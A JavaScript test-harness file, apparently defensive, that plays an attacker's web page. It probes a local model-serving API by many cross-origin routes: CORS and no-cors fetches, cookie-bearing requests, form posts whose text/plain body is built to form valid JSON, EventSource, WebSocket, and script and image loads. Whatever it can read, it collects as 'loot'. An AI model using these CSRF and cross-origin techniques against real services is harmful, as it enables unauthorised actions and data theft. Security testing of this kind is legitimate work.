// What an attacker's page runs; served to a real browser.

/** Runs in the page: everything its script may send to that address. */
globalThis.attack = async ({ base, all }) => {
  const limitMs = 5_000
  const loot = { readable: [], events: 0, sockets: 0, scripts: 0, images: 0 }
  const body = JSON.stringify({ model: 'm', messages: [], input: 'x', max_tokens: 5 })
  const within = (work) =>
    Promise.race([work.catch(() => {}), new Promise((resolve) => setTimeout(resolve, limitMs))])
  const read = async (what, init, path) => {
    const answer = await fetch(base + path, init)
    if (answer.type !== 'opaque')
      loot.readable.push(`${what} ${path}: ${answer.status} ${await answer.text()}`)
  }
  const asked = all.flatMap(({ method, path }) => {
    const sent = method === 'GET' || method === 'HEAD' ? {} : { body }
    const json = { 'content-type': 'application/json' }
    const simple = { ...sent, method: method === 'DELETE' ? 'POST' : method, mode: 'no-cors' }
    return [
      within(read('cors', { ...sent, method, headers: json }, path)),
      within(read('cors with cookies', { ...sent, method, credentials: 'include' }, path)),
      within(read('text/plain', { ...simple, headers: { 'content-type': 'text/plain' } }, path)),
      within(read('no-cors json', { ...simple, headers: json }, path)),
    ]
  })
  await Promise.all(asked)
  const forms = all
    .filter(({ method }) => method === 'POST')
    .flatMap(({ path }) =>
      ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'].map((enctype) => {
        const frame = document.createElement('iframe')
        frame.name = `f${Math.random()}`
        document.body.append(frame)
        const form = document.createElement('form')
        Object.assign(form, { action: base + path, method: 'post', enctype, target: frame.name })
        const field = document.createElement('input')
        // As text/plain this is well-formed JSON.
        Object.assign(field, { name: body.replace(/\}$/, ',"x":"'), value: '"}' })
        form.append(field)
        document.body.append(form)
        const loaded = new Promise((resolve) => {
          frame.addEventListener('load', () => {
            try {
              const text = frame.contentDocument?.body.textContent ?? ''
              if (text !== '') loot.readable.push(`form ${path}: ${text}`)
            } catch {
              // Another origin's.
            }
            resolve()
          })
        })
        form.submit()
        return within(loaded)
      }),
    )
  await Promise.all(forms)
  const gets = all.filter(({ method }) => method === 'GET')
  await Promise.all(
    gets.flatMap(({ path }) => [
      within(
        new Promise((resolve) => {
          const source = new EventSource(base + path, { withCredentials: true })
          source.addEventListener('open', () => (loot.events += 1))
          source.addEventListener('error', () => {
            source.close()
            resolve()
          })
        }),
      ),
      within(
        new Promise((resolve) => {
          const socket = new WebSocket(base.replace('http', 'ws') + path)
          socket.addEventListener('open', () => (loot.sockets += 1))
          socket.addEventListener('close', () => resolve())
        }),
      ),
      ...['script', 'img'].map((tag) =>
        within(
          new Promise((resolve) => {
            const element = document.createElement(tag)
            element.addEventListener('load', () => {
              if (tag === 'img') loot.images += 1
              else loot.scripts += 1
              resolve()
            })
            element.addEventListener('error', () => resolve())
            element.src = base + path
            document.body.append(element)
          }),
        ),
      ),
    ]),
  )
  return loot
}
